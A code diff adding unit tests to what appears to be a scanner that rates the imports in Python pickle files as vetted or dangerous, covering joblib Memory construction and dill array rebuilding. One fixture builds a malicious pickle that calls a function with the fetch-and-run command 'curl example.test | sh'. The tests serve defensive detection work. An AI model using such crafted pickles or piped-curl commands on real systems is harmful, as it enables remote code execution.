@@ -126,6 +126,33 @@ describe('a method that is taken of an object', () => {
   });
 });
 
+describe('a class of a dangerous module', () => {
+  it('that is vetted as long as it is made without arguments is dangerous with them', () => {
+    const judged = (opcodes: string) => {
+      const bytes = assemblePickle(`PROTO 4\nGLOBAL joblib.memory Memory\n${opcodes}STOP`);
+      return (record(readPickle, bytes).parts[0] as PickleFacts).imports.map((entry) => judgeImport(entry).tier);
+    };
+    assert.deepEqual(judged('EMPTY_TUPLE\nNEWOBJ\n'), ['vetted']);
+    assert.deepEqual(judged("BINUNICODE '/tmp/x'\nTUPLE1\nREDUCE\n"), ['dangerous']);
+  });
+});
+
+describe('a function that rebuilds an array by another one', () => {
+  it('is judged by that one, which it calls', () => {
+    const bytes = assemblePickle(
+      "PROTO 4\nGLOBAL dill._dill _create_array\nGLOBAL mine run\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nNONE\nTUPLE3\nREDUCE\nSTOP",
+    );
+    const { imports } = record(readPickle, bytes).parts[0] as PickleFacts;
+    assert.deepEqual(
+      imports.map((entry) => [entry.name, judgeImport(entry).tier, entry.call?.slice(0, 20)]),
+      [
+        ['_create_array', 'vetted', 'dill._dill._create_a'],
+        ['run', 'dangerous', "mine.run('curl examp"],
+      ],
+    );
+  });
+});
+
 describe('the type of None', () => {
   it('is named, and the call of `type` with it is none of its own', () => {
     const { imports } = record(readPickle, assemblePickle('PROTO 4\nGLOBAL builtins type\nNONE\nTUPLE1\nREDUCE\nSTOP'))
